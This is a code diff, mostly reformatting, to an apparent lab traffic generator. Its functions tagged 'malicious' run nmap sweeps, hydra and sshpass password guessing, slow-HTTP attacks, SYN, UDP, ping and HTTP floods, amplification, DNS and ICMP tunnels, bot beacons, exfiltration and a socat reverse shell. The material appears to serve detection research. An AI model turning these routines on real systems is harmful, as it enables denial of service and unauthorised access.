@@ -24,7 +24,9 @@ def nmap(scene, *words, ports=True):
     for name in ("web", "ssh"):
         scene.need(name)
     dead = scene.rng.sample(range(1, 1024), scene.rng.randrange(0, 400))
-    scene.lab.conditions(filtered=[[scene.address(), p, n] for n in dead if n not in (22, 80, 443) for p in (6, 17)])
+    scene.lab.conditions(
+        filtered=[[scene.address(), p, n] for n in dead if n not in (22, 80, 443) for p in (6, 17)]
+    )
     scene.start()
     words = ["nmap", "-n", "-Pn", "--max-retries", "1", "--host-timeout", f"{int(scene.seconds)}s", *words]
     if scene.version == 6:
@@ -71,28 +73,69 @@ def scan_udp(scene):
     nmap(scene, "-sU", "--max-rate", str(scene.pick(20, 120)))
 
 
-@activity("malicious", "scan", "nmap ping sweep over a range, in which few hosts live", versions=(4,),
-          expression="host {client}", at_client=True)
+@activity(
+    "malicious",
+    "scan",
+    "nmap ping sweep over a range, in which few hosts live",
+    versions=(4,),
+    expression="host {client}",
+    at_client=True,
+)
 def sweep_ping(scene):
     scene.start()
     network = scene.address().rsplit(".", 1)[0]
     first = scene.rng.randrange(0, 128)
-    scene.run("nmap", "-n", "-sn", "-PE", "--max-retries", "0", "--max-rate", str(scene.pick(20, 150)), scene.address(),
-              f"{network}.{first}-{first + scene.pick(40, 120)}")
+    scene.run(
+        "nmap",
+        "-n",
+        "-sn",
+        "-PE",
+        "--max-retries",
+        "0",
+        "--max-rate",
+        str(scene.pick(20, 150)),
+        scene.address(),
+        f"{network}.{first}-{first + scene.pick(40, 120)}",
+    )
 
 
-@activity("malicious", "scan", "One port, tried on every address of a range, as worms do", versions=(4,),
-          expression="host {client}", at_client=True)
+@activity(
+    "malicious",
+    "scan",
+    "One port, tried on every address of a range, as worms do",
+    versions=(4,),
+    expression="host {client}",
+    at_client=True,
+)
 def sweep_port(scene):
     scene.need("ssh")
     scene.start()
     network = scene.address().rsplit(".", 1)[0]
-    scene.run("nmap", "-n", "-Pn", "-sS", "-p", scene.rng.choice(["22", "23", "445", "3389"]), "--max-retries", "0",
-              "--max-rate", str(scene.pick(20, 150)), "--host-timeout", "2s", scene.address(), f"{network}.1-120")
+    scene.run(
+        "nmap",
+        "-n",
+        "-Pn",
+        "-sS",
+        "-p",
+        scene.rng.choice(["22", "23", "445", "3389"]),
+        "--max-retries",
+        "0",
+        "--max-rate",
+        str(scene.pick(20, 150)),
+        "--host-timeout",
+        "2s",
+        scene.address(),
+        f"{network}.1-120",
+    )
 
 
-@activity("malicious", "scan", "Many hosts tried by ordinary sockets, as bots do: the system repeats what nobody answers",
-          expression="host {client}", at_client=True)
+@activity(
+    "malicious",
+    "scan",
+    "Many hosts tried by ordinary sockets, as bots do: the system repeats what nobody answers",
+    expression="host {client}",
+    at_client=True,
+)
 def sweep_sockets(scene):
     for name in ("web", "ssh"):
         scene.need(name)
@@ -109,18 +152,28 @@ def sweep_sockets(scene):
             s.setblocking(False)
             port = scene.rng.randrange(1, 65536) if scene.rng.random() < odd else scene.rng.choice(ports)
             # Most addresses have no host, as in any network.
-            address = scene.address() if scene.rng.random() < 0.02 else scene.lab.empty_address(scene.rng, scene.version)
+            address = (
+                scene.address()
+                if scene.rng.random() < 0.02
+                else scene.lab.empty_address(scene.rng, scene.version)
+            )
             s.connect_ex((address, port))
             tried.append(s)
             scene.wait(gap * scene.rng.expovariate(1.0))
         scene.wait(scene.left)
         for s in tried:
             s.close()
+
     scene.on_client(knock)
 
 
-@activity("malicious", "scan", "Datagrams to hosts of a long list, one each, as bots look for others of their kind",
-          expression="host {client}", at_client=True)
+@activity(
+    "malicious",
+    "scan",
+    "Datagrams to hosts of a long list, one each, as bots look for others of their kind",
+    expression="host {client}",
+    at_client=True,
+)
 def seek_peers(scene):
     scene.start()
     gap, size, fixed = 1 / scene.pick(4, 60), scene.pick(20, 300), scene.rng.choice([None, None, 6881, 16464])
@@ -132,6 +185,7 @@ def seek_peers(scene):
                 s.sendto(os.urandom(size), (scene.lab.empty_address(scene.rng, scene.version), port))
                 if not scene.wait(gap * scene.rng.expovariate(1.0)):
                     return
+
     scene.on_client(seek)
 
 
@@ -142,9 +196,23 @@ def hydra(scene, protocol, *rest):
     """hydra with a list of wrong passwords."""
     (scene.client.directory / "words").write_text("\n".join(f"guess{i}" for i in range(400)) + "\n")
     # -w: without it, hydra waits half a minute after a server has hung up on it.
-    words = ["hydra", "-I", "-q", "-w", "2", "-l", scene.rng.choice(["root", "admin", "member"]), "-P", "words", "-t",
-             scene.rng.choice([1, 2, 4, 4, 8]), f"-{scene.version}"]
-    scene.run(*words, f"{protocol}://{scene.server.literal(scene.version)}{''.join(rest)}", seconds=scene.left)
+    words = [
+        "hydra",
+        "-I",
+        "-q",
+        "-w",
+        "2",
+        "-l",
+        scene.rng.choice(["root", "admin", "member"]),
+        "-P",
+        "words",
+        "-t",
+        scene.rng.choice([1, 2, 4, 4, 8]),
+        f"-{scene.version}",
+    ]
+    scene.run(
+        *words, f"{protocol}://{scene.server.literal(scene.version)}{''.join(rest)}", seconds=scene.left
+    )
 
 
 @activity("malicious", "brute-force", "hydra guesses SSH passwords")
@@ -160,9 +228,25 @@ def brute_ssh_client(scene):
     scene.start()
     pause = scene.rng.choice([0.0, 0.2, 1.0])
     while not scene.over:
-        scene.run("sshpass", "-p", f"guess{scene.rng.randrange(1000)}", "ssh", "-F", "/dev/null", "-p", port,
-                  "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o",
-                  "PreferredAuthentications=password", "-o", "NumberOfPasswordPrompts=1", f"root@{scene.address()}")
+        scene.run(
+            "sshpass",
+            "-p",
+            f"guess{scene.rng.randrange(1000)}",
+            "ssh",
+            "-F",
+            "/dev/null",
+            "-p",
+            port,
+            "-o",
+            "StrictHostKeyChecking=no",
+            "-o",
+            "UserKnownHostsFile=/dev/null",
+            "-o",
+            "PreferredAuthentications=password",
+            "-o",
+            "NumberOfPasswordPrompts=1",
+            f"root@{scene.address()}",
+        )
         scene.wait(pause)
 
 
@@ -187,7 +271,7 @@ def guess_pages(scene):
     many = scene.rng.choice([1, 20, 50])
     while not scene.over:
         names = ",".join(f"{scene.rng.getrandbits(30):x}" for _ in range(many))
-        scene.run("curl", "-s", "-k", "-o", "/dev/null", "-A", "Mozilla/5.0", scene.url("{%s}.php" % names))
+        scene.run("curl", "-s", "-k", "-o", "/dev/null", "-A", "Mozilla/5.0", scene.url(f"{{{names}}}.php"))
         scene.wait(scene.rng.uniform(0.0, 0.1))
 
 
@@ -197,8 +281,21 @@ def guess_pages(scene):
 def slow(scene, *words):
     scene.need("web")
     scene.start()
-    scene.run("slowhttptest", *words, "-c", scene.pick(12, 80), "-r", scene.pick(8, 40), "-l", int(scene.seconds),
-              "-u", scene.url("large.bin" if "-X" in words else "index.html"), "-p", "5", seconds=scene.left)
+    scene.run(
+        "slowhttptest",
+        *words,
+        "-c",
+        scene.pick(12, 80),
+        "-r",
+        scene.pick(8, 40),
+        "-l",
+        int(scene.seconds),
+        "-u",
+        scene.url("large.bin" if "-X" in words else "index.html"),
+        "-p",
+        "5",
+        seconds=scene.left,
+    )
 
 
 @activity("malicious", "slow-http", "slowhttptest: headers that never end")
@@ -252,11 +349,22 @@ def flood_syn_six(scene):
         with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_TCP) as s:
             checksum_at(s, 16)
             for _ in range(count):
-                syn = struct.pack("!HHIIBBHHH", scene.rng.randrange(1024, 65535), 80, scene.rng.getrandbits(32), 0,
-                                  5 << 4, 2, scene.rng.randrange(512, 65535), 0, 0)
+                syn = struct.pack(
+                    "!HHIIBBHHH",
+                    scene.rng.randrange(1024, 65535),
+                    80,
+                    scene.rng.getrandbits(32),
+                    0,
+                    5 << 4,
+                    2,
+                    scene.rng.randrange(512, 65535),
+                    0,
+                    0,
+                )
                 s.sendto(syn, (scene.address(), 0))
                 if not scene.wait(gap):
                     return
+
     scene.on_client(send)
 
 
@@ -288,6 +396,7 @@ def flood_udp_six(scene):
                 s.sendto(os.urandom(size), (scene.address(), port))
                 if not scene.wait(gap):
                     return
+
     scene.on_client(send)
 
 
@@ -300,8 +409,19 @@ def flood_icmp(scene):
 @activity("malicious", "flood", "ping as fast as it is let, large packets", versions=(4, 6))
 def flood_ping(scene):
     scene.start()
-    scene.run("ping", "-q", "-n", "-i", "0.01", "-c", scene.pick(200, 900), "-s", scene.pick(56, 1300), scene.address(),
-              seconds=scene.left)
+    scene.run(
+        "ping",
+        "-q",
+        "-n",
+        "-i",
+        "0.01",
+        "-c",
+        scene.pick(200, 900),
+        "-s",
+        scene.pick(56, 1300),
+        scene.address(),
+        seconds=scene.left,
+    )
 
 
 @activity("malicious", "flood", "Flood of page requests, a connection each, several at once")
@@ -323,6 +443,7 @@ def flood_http(scene):
                 pass
             if not scene.wait(scene.rng.uniform(0.0, 0.04)):
                 return
+
     for thread in [scene.client.inside(worker) for _ in range(4)]:
         thread.join(scene.left + 4)
 
@@ -337,13 +458,21 @@ def flood_http_kept(scene):
     scene.run(*words, seconds=scene.left)
 
 
-@activity("malicious", "amplification", "Large answers that nobody asked for, in many pieces, at the victim",
-          expression="host {server} and host {client} and (udp or ip[6:2] & 0x1fff != 0 or ip6[6] == 44)")
+@activity(
+    "malicious",
+    "amplification",
+    "Large answers that nobody asked for, in many pieces, at the victim",
+    expression="host {server} and host {client} and (udp or ip[6:2] & 0x1fff != 0 or ip6[6] == 44)",
+)
 def amplified_answers(scene):
     """The client's host plays a resolver whose questions were forged elsewhere; the server is the victim."""
     victim = scene.address()
     scene.start()
-    source, count, size = scene.rng.choice([53, 123, 1900, 11211]), scene.pick(100, 400), scene.pick(400, 4000)
+    source, count, size = (
+        scene.rng.choice([53, 123, 1900, 11211]),
+        scene.pick(100, 400),
+        scene.pick(400, 4000),
+    )
     port = scene.rng.randrange(1024, 65535)
 
     def answer():
@@ -353,6 +482,7 @@ def amplified_answers(scene):
                 s.sendto(os.urandom(size), (to, port))
                 if not scene.wait(scene.rng.expovariate(1 / 0.012)):
                     return
+
     scene.on_client(answer)
 
 
@@ -395,6 +525,7 @@ def tunnel_dns_socket(scene):
                 except OSError:
                     pass
                 scene.wait(0.01 if busy else 0.5)
+
     scene.on_client(send)
 
 
@@ -404,24 +535,32 @@ def tunnel_icmp(scene):
 
     def send():
         six = scene.version == 6
-        with socket.socket(socket.AF_INET6 if six else socket.AF_INET, socket.SOCK_DGRAM,
-                           socket.IPPROTO_ICMPV6 if six else socket.IPPROTO_ICMP) as s:
+        with socket.socket(
+            socket.AF_INET6 if six else socket.AF_INET,
+            socket.SOCK_DGRAM,
+            socket.IPPROTO_ICMPV6 if six else socket.IPPROTO_ICMP,
+        ) as s:
             s.settimeout(0.3)
             number = 0
             while not scene.over:
                 size = scene.rng.choice([1024, 1024, 700, 64, 80])
-                s.sendto(struct.pack("!BBHHH", 128 if six else 8, 0, 0, 0, number & 0xFFFF) + os.urandom(size),
-                         (scene.address(), 0))
+                s.sendto(
+                    struct.pack("!BBHHH", 128 if six else 8, 0, 0, 0, number & 0xFFFF) + os.urandom(size),
+                    (scene.address(), 0),
+                )
                 number += 1
                 try:
                     s.recv(4096)
                 except OSError:
                     pass
                 scene.wait(scene.rng.choice([0.01, 0.05, 0.3]))
+
     scene.on_client(send)
 
 
-@activity("malicious", "beacon", "A bot that asks for orders at regular times, a connection each (HTTP or HTTPS)")
+@activity(
+    "malicious", "beacon", "A bot that asks for orders at regular times, a connection each (HTTP or HTTPS)"
+)
 def beacon_web(scene):
     scene.need("web")
     scene.start()
@@ -447,6 +586,7 @@ def beacon_kept(scene):
                     scene.wait(period * scene.rng.uniform(0.9, 1.1))
         except OSError:
             pass
+
     scene.on_client(ask)
 
 
@@ -469,6 +609,7 @@ def exfiltrate(scene):
                 return
             if not scene.wait(scene.rng.uniform(0.0, 0.8)):
                 return
+
     scene.on_client(send)
 
 
@@ -476,12 +617,22 @@ def exfiltrate(scene):
 def reverse_shell(scene):
     """The client is the victim and connects; socat on it runs a shell for whoever listens on the server."""
     port = 4444
-    handler = scene.server.spawn(["socat", "-", f"TCP6-LISTEN:{port},reuseaddr,ipv6only=0"], stdin=subprocess.PIPE)
+    handler = scene.server.spawn(
+        ["socat", "-", f"TCP6-LISTEN:{port},reuseaddr,ipv6only=0"], stdin=subprocess.PIPE
+    )
     time.sleep(0.3)
     scene.start()
     target = scene.server.literal(scene.version)
     scene.client.spawn(["socat", f"TCP{scene.version}:{target}:{port}", "EXEC:sh,stderr"])
-    commands = ["id", "uname -a", "ls -l /usr/bin | head -200", "cat /etc/services", "ps aux", "ls /home", "ip address"]
+    commands = [
+        "id",
+        "uname -a",
+        "ls -l /usr/bin | head -200",
+        "cat /etc/services",
+        "ps aux",
+        "ls /home",
+        "ip address",
+    ]
     while scene.pause(1.0):
         try:
             handler.stdin.write((scene.rng.choice(commands) + "\n").encode())
